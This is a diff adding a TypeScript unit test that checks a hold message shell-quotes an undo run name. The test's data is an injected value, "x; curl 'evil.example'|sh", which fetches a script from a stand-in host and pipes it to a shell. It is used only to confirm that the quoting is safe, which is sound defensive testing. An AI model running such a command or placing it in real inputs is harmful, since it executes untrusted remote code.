@@ -260,6 +260,12 @@ spec('a hold in words', (test) => {
       assert.equal(decisionNote(decision), note)
     })
 
+  test('a run is quoted as well, whatever somebody had kept as one', () => {
+    const what: HoldWhat = { _tag: 'Undo', run: "x; curl 'evil.example'|sh", users: [] }
+    const ending = "; to end it: release --undo 'x; curl '\\''evil.example'\\''|sh'"
+    assert.ok(fullMessage(heldSaid(hold(what))).endsWith(ending))
+  })
+
   test('only the run of an undo may be named by its beginning', () => {
     const run = (name: string): HoldWhat => ({ _tag: 'Undo', run: name, users: [] })
     assert.ok(isMeant(run('run-1'), run('run')))
